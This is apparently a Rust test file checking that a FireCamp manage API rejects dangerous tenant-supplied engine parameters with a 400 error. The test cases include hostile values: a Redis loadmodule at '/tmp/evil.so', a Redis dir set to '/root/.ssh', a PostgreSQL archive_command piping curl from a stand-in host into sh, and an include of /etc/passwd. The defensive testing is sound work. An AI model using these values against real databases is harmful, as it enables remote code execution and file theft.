//! Issue #12, items 2 and 5 on the manage service's REST API: a tenant allowed to create
//! FireCampServices sends engine parameters that would run commands in the pods, values out of
//! range, or a reserved annotation. Each is refused with 400 naming the field, and nothing is
//! written to Kubernetes. The API server here is a fake that approves every token and access
//! review, serves one existing service, and records every request.

use std::sync::{Arc, Mutex};

use axum::body::Body as AxumBody;
use axum::http::{Method, Request, Response, StatusCode, header};
use firecamp_api::ApiError;
use firecamp_core::{ClusterConfig, EngineKind};
use firecamp_manage::crd::{FireCampService, FireCampServiceSpec};
use firecamp_manage::rest::{AppState, router};
use serde_json::{Value, json};
use tower::ServiceExt;

/// A Kubernetes API that says yes to authentication and authorization, has service `rd`, and
/// refuses (500) any write; `seen` lists "METHOD path" of every request.
fn fake_kube(seen: Arc<Mutex<Vec<String>>>) -> kube::Client {
    let mut rd = FireCampService::new("rd", FireCampServiceSpec(firecamp_catalog::examples::spec(EngineKind::Redis, 3)));
    rd.metadata.namespace = Some("default".into());
    rd.metadata.resource_version = Some("1".into());
    let rd = serde_json::to_value(&rd).unwrap();
    let service = tower::service_fn(move |req: Request<kube::client::Body>| {
        let (seen, rd) = (seen.clone(), rd.clone());
        async move {
            let path = req.uri().path().to_string();
            seen.lock().unwrap().push(format!("{} {path}", req.method()));
            let (status, body) = if path.ends_with("/tokenreviews") {
                (
                    200,
                    json!({ "apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview", "spec": {}, "status": { "authenticated": true, "audiences": ["firecamp"], "user": { "username": "tenant", "groups": ["system:authenticated"] } } }),
                )
            } else if path.ends_with("/subjectaccessreviews") {
                (200, json!({ "apiVersion": "authorization.k8s.io/v1", "kind": "SubjectAccessReview", "spec": {}, "status": { "allowed": true } }))
            } else if req.method() == Method::GET && path.ends_with("/firecampservices/rd") {
                (200, rd)
            } else {
                (500, json!({ "apiVersion": "v1", "kind": "Status", "status": "Failure", "message": "this API server writes nothing", "code": 500 }))
            };
            let resp = Response::builder()
                .status(status)
                .header(header::CONTENT_TYPE, "application/json")
                .body(kube::client::Body::from(serde_json::to_vec(&body).unwrap()));
            Ok::<_, std::convert::Infallible>(resp.unwrap())
        }
    });
    kube::Client::new(service, "default")
}

async fn post(path: &str, body: Value) -> (StatusCode, ApiError, Vec<String>) {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let app = router(Arc::new(AppState::new(fake_kube(seen.clone()), ClusterConfig::new("test"), None)));
    let req = Request::builder()
        .method(Method::POST)
        .uri(path)
        .header(header::AUTHORIZATION, "Bearer tenant-token")
        .header(header::CONTENT_TYPE, "application/json")
        .body(AxumBody::from(serde_json::to_vec(&body).unwrap()))
        .unwrap();
    let resp = app.oneshot(req).await.unwrap();
    let status = resp.status();
    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap();
    let err = serde_json::from_slice(&bytes).unwrap_or_else(|e| panic!("not an ApiError ({e}): {}", String::from_utf8_lossy(&bytes)));
    let seen = seen.lock().unwrap().clone();
    (status, err, seen)
}

fn spec(engine: &str) -> Value {
    json!({ "engine": engine, "replicas": 3, "zones": ["us-east-1a", "us-east-1b", "us-east-1c"], "volumes": { "data": { "size": "10Gi" } } })
}

/// Nothing but reads and reviews reached Kubernetes.
fn nothing_written(seen: &[String]) {
    assert!(seen.iter().all(|r| r.starts_with("GET ") || r.ends_with("reviews")), "{seen:?}");
}

#[tokio::test]
async fn create_refuses_dangerous_parameters_out_of_range_values_and_reserved_annotations() {
    let cases = [
        ("redis", json!({ "config": { "loadmodule": "/tmp/evil.so" } }), "spec.config.loadmodule", "not an allowed Redis parameter"),
        ("redis", json!({ "memberConfig": { "svc-2": { "rename-command": "CONFIG x" } } }), "spec.memberConfig.svc-2.rename-command", "FireCamp sets"),
        ("redis", json!({ "config": { "maxmemory-samples": "1000" } }), "spec.config.maxmemory-samples", "an integer from 1 to 64"),
        (
            "postgresql",
            json!({ "config": { "archive_command": "sh -c 'curl evil | sh'" } }),
            "spec.config.archive_command",
            "not an allowed PostgreSQL parameter",
        ),
        ("postgresql", json!({ "config": { "include": "/etc/passwd" } }), "spec.config.include", "not an allowed"),
        ("postgresql", json!({ "config": { "log_statement": "everything" } }), "spec.config.log_statement", "one of `none`, `ddl`, `mod`, `all`"),
        ("zookeeper", json!({ "config": { "authProvider.1": "org.evil.Provider" } }), "spec.config.authProvider.1", "not an allowed ZooKeeper parameter"),
        (
            "redis",
            json!({ "annotations": { "storageclass.kubernetes.io/is-default-class": "true" } }),
            "spec.annotations[\"storageclass.kubernetes.io/is-default-class\"]",
            "reserved",
        ),
        ("redis", json!({ "labels": { "firecamp.dev/service": "other" } }), "spec.labels[\"firecamp.dev/service\"]", "reserved"),
    ];
    for (engine, extra, field, want) in cases {
        let mut s = spec(engine);
        s.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        let (status, e, seen) = post("/v1/services", json!({ "name": "svc", "spec": s })).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{field}: {e:?}");
        assert!(e.fields.iter().any(|f| f.field == field && f.message.contains(want)), "{field}: {e:?}");
        nothing_written(&seen);
    }
}

#[tokio::test]
async fn config_operations_refuse_dangerous_parameters_before_anything_is_recorded() {
    for (config, field) in [
        (json!({ "config": { "loadmodule": "/tmp/evil.so" } }), "spec.config.loadmodule"),
        (json!({ "config": { "dir": "/root/.ssh" } }), "spec.config.dir"),
        (json!({ "config": { "appendfsync": "never" } }), "spec.config.appendfsync"),
        (json!({ "memberConfig": { "rd-1": { "enable-debug-command": "yes" } } }), "spec.memberConfig.rd-1.enable-debug-command"),
    ] {
        let mut body = json!({ "kind": "config" });
        body.as_object_mut().unwrap().extend(config.as_object().unwrap().clone());
        let (status, e, seen) = post("/v1/services/rd/operations", body).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{field}: {e:?}");
        assert!(e.fields.iter().any(|f| f.field == field), "{field}: {e:?}");
        assert!(seen.iter().any(|r| r.ends_with("/firecampservices/rd")), "the service was read: {seen:?}");
        nothing_written(&seen);
    }
}
